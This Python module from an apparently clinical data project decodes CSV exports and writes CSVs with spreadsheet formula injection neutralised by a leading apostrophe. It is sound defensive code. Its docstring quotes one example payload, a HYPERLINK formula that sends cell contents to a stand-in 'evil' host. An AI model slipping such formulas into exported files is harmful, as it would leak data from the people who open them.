"""CSV files exchanged with spreadsheets: decoding what clinics export, and writing what Excel cannot execute.

`decode_export` turns the bytes of a clinic's CSV export (UTF-8, Excel's cp1252, UTF-16 "Unicode text") into
text, or says in one line why it is not a CSV; annotation and score tables both read through it.

Every CSV loscat-hf writes goes through `SafeWriter`/`SafeDictWriter`.

People open metadata, id maps, predictions and link reports in Excel or LibreOffice, which run a cell that
starts with `=`, `+`, `-` or `@` (and some with a leading tab or carriage return) as a formula: a file name
or free-text cell such as `=HYPERLINK("http://evil/?"&A1)` would leak data or run commands (OWASP "CSV
injection"). Such cells are written with a leading apostrophe, the usual neutralisation that spreadsheets
display as plain text; numbers (`-1`, `+2.5`, `-1e-3`) are written as they are. A value that itself starts
with an apostrophe gets one more, so `read_cell`, which undoes it for loscat-hf's own readers (e.g.
`predict --resume` reading its earlier output), gives back exactly what was written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any, TextIO

from loscat_hf.errors import LoscatError

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*_FORMULA_START, "'")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def decode_export(raw: bytes, path: str | Path, what: str) -> str:
    """Text of a CSV export; a workbook, binary data or undecodable UTF-16 is a LoscatError naming `what`."""
    head = raw[:8192]
    if head.startswith((b"PK\x03\x04", b"\xd0\xcf\x11\xe0")):
        raise LoscatError(f"{what} {path} looks like an Excel workbook, not a CSV file: save it as CSV UTF-8")
    if head.startswith((b"\xff\xfe", b"\xfe\xff")):  # Excel's "Unicode text" and some exports: UTF-16
        try:
            return raw.decode("utf-16")
        except UnicodeDecodeError:
            raise LoscatError(f"{what} {path} claims to be UTF-16 but does not decode; "
                              "save it as CSV UTF-8") from None
    if b"\x00" in head:
        hint = (" (it looks like UTF-16 without a byte-order mark)"
                if head[1::2].count(0) > len(head) // 4 else "")
        raise LoscatError(f"{what} {path} is not a text CSV file{hint}: save it as CSV UTF-8")
    for encoding in ("utf-8-sig", "cp1252"):  # Excel on Windows writes cp1252 "CSV"
        try:
            return raw.decode(encoding)
        except UnicodeDecodeError:
            continue
    return raw.decode("latin-1")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if not isinstance(value, str) or not value.startswith(_ESCAPED):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def read_cell(value: str) -> str:
    """Inverse of `safe_cell` for a cell read back from a CSV that loscat-hf wrote."""
    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r'":
        return value[1:]
    return value


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, fh: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose values go through `safe_cell` (the header is ours, written as is)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
